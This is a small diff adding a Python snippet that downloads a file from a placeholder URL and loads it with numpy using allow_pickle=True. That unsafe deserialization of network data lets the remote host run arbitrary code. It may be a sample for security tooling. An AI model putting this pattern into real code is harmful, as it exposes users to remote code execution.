@@ -1,0 +1,5 @@
+import io
+import numpy
+import urllib.request
+
+table = numpy.load(io.BytesIO(urllib.request.urlopen("https://example.com/x").read()), allow_pickle=True)
